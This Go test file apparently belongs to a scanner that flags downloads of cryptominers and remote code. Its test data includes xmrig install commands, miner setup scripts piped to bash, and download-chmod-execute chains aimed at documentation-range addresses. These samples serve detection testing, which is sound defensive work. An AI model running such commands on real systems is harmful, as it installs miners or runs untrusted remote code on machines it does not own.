package download

import (
	"strings"
	"testing"

	"github.com/safepull/safepull/trust"
	"github.com/safepull/safepull/trust/indicator"
	"github.com/safepull/safepull/trust/indicator/indicatortest"
)

func shipped(t testing.TB) *Indicator {
	t.Helper()
	ind, err := New(rules(t))
	if err != nil {
		t.Fatal(err)
	}
	return ind
}

func TestShapes(t *testing.T) {
	t.Parallel()
	script, text, config, exe := trust.KindScript, trust.KindText, trust.KindConfig, trust.KindExecutable
	indicatortest.Shapes(t, shipped(t), []indicatortest.Sample{
		{Name: "curl-to-a-file", Path: "a.sh", Kind: script, Content: "curl -fsSLo /tmp/m.tgz " + release + "\n", Want: trust.Strong},
		{Name: "capitals", Path: "a.sh", Kind: script, Content: "wget https://GitHub.com/XMRig/xmrig/archive/refs/heads/master.zip && unzip master.zip\n", Want: trust.Strong},
		{Name: "codeload", Path: "a.sh", Kind: script, Content: "wget https://example.org/mirror/xmrig-6.21.3-linux-static-x64.tar.gz -O- | tar xz\n", Want: trust.Strong},
		{Name: "assigned-first", Path: "a.sh", Kind: script, Content: "URL=\"" + release + "\"\nmkdir -p /opt\ncd /opt\ncurl -L \"$URL\" -o x.tgz\n", Want: trust.Strong},
		{Name: "assigned-after", Path: "a.py", Kind: script, Content: "def get(u):\n    return requests.get(u)\nget('" + release + "')\n", Want: trust.Strong},
		{Name: "powershell", Path: "a.ps1", Kind: script, Content: "Invoke-WebRequest -Uri https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-msvc-win64.zip -OutFile x.zip\n", Want: trust.Strong},
		{Name: "git-with-options", Path: "a.sh", Kind: script, Content: "git -c http.sslVerify=false clone --recursive -b dev https://github.com/xmrig/xmrig\n", Want: trust.Strong},
		{Name: "builds-when-started", Path: "config:command", Kind: config, Content: "sh -c \"git clone https://github.com/xmrig/xmrig && cd xmrig && cmake . && make\"", Want: trust.Proof},
		{Name: "node", Path: "a.js", Kind: script, Content: "fetch('" + release + "').then(r => r.body.pipe(fs.createWriteStream('x')))\n", Want: trust.Strong},
		{Name: "php", Path: "a.php", Kind: script, Content: "<?php file_put_contents('/tmp/x', file_get_contents('" + release + "'));\n", Want: trust.Strong},
		{Name: "continued", Path: "a.sh", Kind: script, Content: "curl -sSL \\\n  --retry 3 \\\n  " + release + " \\\n  -o x\n", Want: trust.Strong},
		{Name: "dnf", Path: "a.sh", Kind: script, Content: "dnf -y install epel-release xmrig\n", Want: trust.Strong},
		{Name: "pacman", Path: "a.sh", Kind: script, Content: "pacman -Syu --noconfirm xmrig\n", Want: trust.Strong},
		{Name: "nix", Path: "a.sh", Kind: script, Content: "nix-env -i xmrig\n", Want: trust.Strong},
		{Name: "apk-version", Path: "config:history[2]", Kind: config, Content: "RUN /bin/sh -c apk add --no-cache xmrig=6.21.0-r0 # buildkit", Want: trust.Strong},
		{Name: "apt-list-in-python", Path: "a.py", Kind: script, Content: "subprocess.run(['apt-get', 'install', '-y', 'xmrig'])\n", Want: trust.Strong},
		{Name: "moneroocean", Path: "a.sh", Kind: script, Content: "curl -s -L https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh | bash -s W\n", Want: trust.Proof},
		{Name: "setup-saved", Path: "a.sh", Kind: script, Content: "wget http://203.0.113.7/setup_c3pool_miner.sh\nchmod +x setup_c3pool_miner.sh\nbash setup_c3pool_miner.sh W\n", Want: trust.Proof},
		{Name: "strings-of-a-program", Path: "usr/bin/x", Kind: exe, Content: "\x00curl -sL " + release + " | tar xz; ./xmrig -o x\x00", Want: trust.Strong},
		{Name: "onbuild", Path: "config:onbuild", Kind: config, Content: "RUN curl -L " + release + " | tar xz", Want: trust.Proof},

		{Name: "chain-curl-upper-o", Path: "a.sh", Kind: script, Content: "cd /var/tmp; curl -sO http://203.0.113.7/bins/k; chmod +x k; ./k\n", Want: trust.Strong},
		{Name: "chain-redirect", Path: "a.sh", Kind: script, Content: "curl -s http://203.0.113.7/k > /dev/shm/.k\nchmod 755 /dev/shm/.k\n/dev/shm/.k\n", Want: trust.Strong},
		{Name: "chain-long-option", Path: "a.sh", Kind: script, Content: "curl --silent --output /tmp/k http://203.0.113.7/k && chmod a+x /tmp/k && nohup /tmp/k &\n", Want: trust.Strong},
		{Name: "chain-document-option", Path: "a.sh", Kind: script, Content: "wget --output-document=/tmp/k http://203.0.113.7/k && sh /tmp/k\n", Want: trust.Strong},
		{Name: "chain-port", Path: "a.sh", Kind: script, Content: "wget -q http://203.0.113.7:8081/k -O /tmp/k; bash /tmp/k\n", Want: trust.Strong},
		{Name: "chain-ipv6", Path: "a.sh", Kind: script, Content: "curl -s http://[2001:db8::7]/k -o /tmp/k; sh /tmp/k\n", Want: trust.Strong},
		{Name: "chain-tls-address", Path: "a.sh", Kind: script, Content: "curl -sk https://203.0.113.7/k -o /tmp/k; sh /tmp/k\n", Want: trust.Strong},
		{Name: "chain-ftp", Path: "a.sh", Kind: script, Content: "wget ftp://dl.example.org/k -O /tmp/k; sh /tmp/k\n", Want: trust.Weak},
		{Name: "chain-without-scheme", Path: "a.sh", Kind: script, Content: "wget 203.0.113.7/bins.sh; sh bins.sh\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "chain-single-quotes", Path: "a.sh", Kind: script, Content: "curl 'http://203.0.113.7/k' -o /tmp/k; sh /tmp/k\n", Want: trust.Strong},
		{Name: "git-elsewhere", Path: "a.sh", Kind: script, Content: "git -C /opt clone https://github.com/xmrig/xmrig\n", Want: trust.Strong},
		{Name: "chain-subdomain-of-paste", Path: "a.sh", Kind: script, Content: "curl -s https://files.catbox.moe/k -o /opt/k; chmod +x /opt/k; /opt/k\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "chain-named", Path: "a.sh", Kind: script, Content: "curl -s https://dl.acme.dev/k -o /opt/k; chmod +x /opt/k; /opt/k\n", Want: trust.Context, IfRun: trust.Weak},
		{Name: "chain-periodic", Path: "etc/periodic/15min/x", Kind: script, Content: "curl -s http://203.0.113.7/x | bash\n", Want: trust.Strong},
		{Name: "pipe-sudo", Path: "a.sh", Kind: script, Content: "curl -s http://203.0.113.7/x | sudo bash -s --\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "pipe-perl", Path: "a.sh", Kind: script, Content: "curl -s http://203.0.113.7/x.pl | perl\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "source-of-a-substitution", Path: "a.sh", Kind: script, Content: "source <(curl -s http://203.0.113.7/x)\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "eval-of-backquotes", Path: "a.sh", Kind: script, Content: "eval `curl -s http://203.0.113.7/x`\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "paste-piped", Path: "a.sh", Kind: script, Content: "curl -s https://pastebin.com/raw/abcd | tr -d '\\r' | sh\n", Want: trust.Weak, IfRun: trust.Strong},
	}, []indicatortest.Twin{
		{Name: "link-comment", Path: "a.sh", Kind: script, Content: "# curl " + release + "\n", Allowed: trust.Strong},
		{Name: "own-exporter", Path: "a.sh", Kind: script, Content: "git clone https://github.com/xmrig/xmrig2-exporter\n"},
		{Name: "no-archive", Path: "a.sh", Kind: script, Content: "wget https://x.invalid/xmrig-logo.png\n"},
		{Name: "package-in-a-longer-name", Path: "a.sh", Kind: script, Content: "apt-get install -y python3-xmrig-api xmrigger libminerd0\n"},
		{Name: "package-of-another-command", Path: "a.sh", Kind: script, Content: "apt-get install -y curl\necho xmrig\n"},
		{Name: "package-removed", Path: "a.sh", Kind: script, Content: "apt-get purge -y xmrig; apk del xmrig\n"},
		{Name: "package-in-text", Path: "todo.txt", Kind: text, Content: "apt-get install xmrig\n"},
		{Name: "private-address", Path: "a.sh", Kind: script, Content: "curl -s http://192.168.1.4/x | sh; wget -qO- http://172.16.0.9/x | sh; curl http://[fd00::1]/x | sh\n"},
		{Name: "this-machine", Path: "a.sh", Kind: script, Content: "curl -s http://[::1]:8080/x | sh\ncurl -s http://0.0.0.0/x | sh\ncurl http://app.localhost/x | sh\n"},
		{Name: "inside-without-scheme", Path: "a.sh", Kind: script, Content: "curl 127.0.0.1:8080/x | sh\nwget 10.1.2.3/x -O /tmp/x; sh /tmp/x\n"},
		{Name: "service-name", Path: "a.sh", Kind: script, Content: "curl -s http://registry:5000/init.sh | sh\ncurl -s http://vault.service.local/x | sh\n"},
		{Name: "archive-only", Path: "a.sh", Kind: script, Content: "wget http://203.0.113.7/backup.tar.gz -O /tmp/b.tar.gz\ntar xzf /tmp/b.tar.gz -C /srv\n"},
		{Name: "null-device", Path: "a.sh", Kind: script, Content: "curl -s http://203.0.113.7/ping -o /dev/null && /opt/run\n"},
		{Name: "key", Path: "a.sh", Kind: script, Content: "curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /k.gpg\n"},
		{Name: "json", Path: "a.sh", Kind: script, Content: "curl -s http://203.0.113.7/api | jq .status\n"},
		{Name: "image", Path: "a.py", Kind: script, Content: "urlretrieve('http://203.0.113.7/a.png', '/tmp/a.png')\nImage.open('/tmp/a.png')\n"},
		{Name: "upload", Path: "a.sh", Kind: script, Content: "curl -T /tmp/report.txt http://203.0.113.7/upload\nrm /tmp/report.txt\n"},
		{Name: "requirements", Path: "config:command", Kind: config, Content: "sh -c \"pip3 install --no-cache-dir -r /app/r.txt && python /app/x.py\""},
		{Name: "editable", Path: "config:command", Kind: config, Content: "sh -c \"pip install -e . && python x.py\""},
		{Name: "packages-at-build", Path: "config:history[1]", Kind: config, Content: "RUN pip install requests"},
		{Name: "documentation", Path: "usr/share/doc/x/INSTALL.md", Kind: text, Content: "curl -s http://203.0.113.7/x | bash\nwget " + release + "\n"},
	})
}

func TestOrigin(t *testing.T) {
	t.Parallel()
	w := &watch{ind: shipped(t)}
	for in, want := range map[string]origin{
		"http://10.0.0.1/x": inside, "http://172.31.255.255/x": inside, "http://172.32.0.0/x": strange, "http://192.168.0.1": inside,
		"http://127.0.0.1:80/": inside, "http://169.254.169.254/latest": inside, "http://0.0.0.0/": inside, "http://224.0.0.1/": inside,
		"http://[::1]/x": inside, "http://[fe80::1]/x": inside, "http://[fd12::1]/x": inside, "http://[2001:db8::1]:80/x": strange,
		"203.0.113.7/x": strange, "203.0.113.7:8080/x": strange, "/dev/tcp/203.0.113.7/80": strange, "/dev/tcp/10.0.0.1/80": inside,
		"https://203.0.113.7/x": strange, "ftp://203.0.113.7/x": strange, "http://web/x": inside, "http://web.internal:80/x": inside,
		"http://printer.local/x": inside, "http://localhost/x": inside, "http://a.localhost/x": inside, "HTTP://Pastebin.com/raw/x": strange,
		"https://pastebin.com/x": named, "https://pastebin.com.acme.dev/raw/x": named, "https://notpastebin.com/raw/x": named,
		"https://files.catbox.moe/x": strange, "https://acme.dev/x": named, "http://acme.dev/x": plain, "ftp://acme.dev/x": plain,
		"https://abc.onion/x": strange, "abc.onion/x": strange, "https://$HOST/x": named, "http://%zz/x": named,
		"https://user:pass@203.0.113.7/x": strange, "http://acme.dev@203.0.113.7/x": strange, "http://203.0.113.7@acme.dev/x": plain,
	} {
		if got := w.originOf(in); got != want {
			t.Errorf("%s: got %d, want %d", in, got, want)
		}
	}
}

// A file that names n different miners is a list from manyNames on, and one less is not.
func TestManyNames(t *testing.T) {
	t.Parallel()
	ind := shipped(t)
	links := []string{"github.com/xmrig/xmrig", "github.com/pooler/cpuminer", "github.com/tpruvot/ccminer", "github.com/trexminer/T-Rex", "github.com/NebuTech/NBMiner", "github.com/bzminer/bzminer", "github.com/rigelminer/rigel"}
	for n, want := range map[int]trust.Strength{1: trust.Strong, manyNames - 1: trust.Strong, manyNames: trust.Context, manyNames + 1: trust.Context} {
		content := "curl -LO https://" + strings.Join(links[:n], "\ncurl -LO https://") + "\n"
		for _, d := range []indicatortest.Drive{{}, {Chunk: 10, HitsLast: true}} {
			found := indicatortest.Inspect(ind, indicator.File{Path: "a.sh", Kind: trust.KindScript}, []byte(content), d)
			if len(found) != n {
				t.Errorf("%d names: %d findings", n, len(found))
			}
			for _, f := range found {
				if f.Strength != want || max(f.Strength, f.IfRun) != trust.Strong {
					t.Errorf("%d names: %s (if run %s), want %s", n, f.Strength, f.IfRun, want)
				}
			}
		}
	}
}

// Many links that weigh nothing do not push out the one that does.
func TestHoldKeepsTheStrongest(t *testing.T) {
	t.Parallel()
	ind := shipped(t)
	const link = "see https://github.com/xmrig/xmrig\n"
	far := strings.Repeat("#\n", 2*reach)
	for _, links := range []int{maxLinks, maxLinks + 1} {
		content := strings.Repeat(link, links) + far + "curl -L " + release + " | tar xz\n./xmrig-6.21.0/xmrig\n" + far + strings.Repeat(link, links)
		found := indicatortest.Inspect(ind, indicator.File{Path: "a.sh", Kind: trust.KindScript}, []byte(content), indicatortest.Drive{})
		strongest := trust.Context
		for _, f := range found {
			strongest = max(strongest, f.Strength)
		}
		if strongest != trust.Proof {
			t.Errorf("%d links: %s", links, strongest)
		}
	}
}

func TestNewSaysWhatIsWrong(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		change func(*Rules)
		want   string
	}{
		"hosting":       {func(r *Rules) { r.Hosting = nil }, "must not be empty"},
		"assets":        {func(r *Rules) { r.Assets = nil }, "must not be empty"},
		"archives":      {func(r *Rules) { r.Archives = nil }, "must not be empty"},
		"short-fetcher": {func(r *Rules) { r.Fetchers = []string{"curl"} }, `"curl" is shorter than 6 bytes`},
		"installer":     {func(r *Rules) { r.Installers = []string{"npm i"} }, `"npm i" is shorter than 6 bytes`},
		"package":       {func(r *Rules) { r.Packages = []string{"xmr"} }, `package "xmr" is shorter than 5 bytes`},
		"install":       {func(r *Rules) { r.Install = nil }, "install must not be empty"},
		"run":           {func(r *Rules) { r.Run = nil }, "run must not be empty"},
		"unpack":        {func(r *Rules) { r.Unpack = []string{"[z-a]"} }, "unpack: error parsing regexp"},
		"piped":         {func(r *Rules) { r.Piped = []string{"a{9999}"} }, "piped: error parsing regexp"},
		"evaluated":     {func(r *Rules) { r.Evaluated = nil }, "evaluated must not be empty"},
	} {
		r := rules(t)
		test.change(&r)
		if _, err := New(r); err == nil || !strings.HasPrefix(err.Error(), "download rules: ") || !strings.Contains(err.Error(), test.want) {
			t.Errorf("%s: got %v, want %s", name, err, test.want)
		}
	}
}
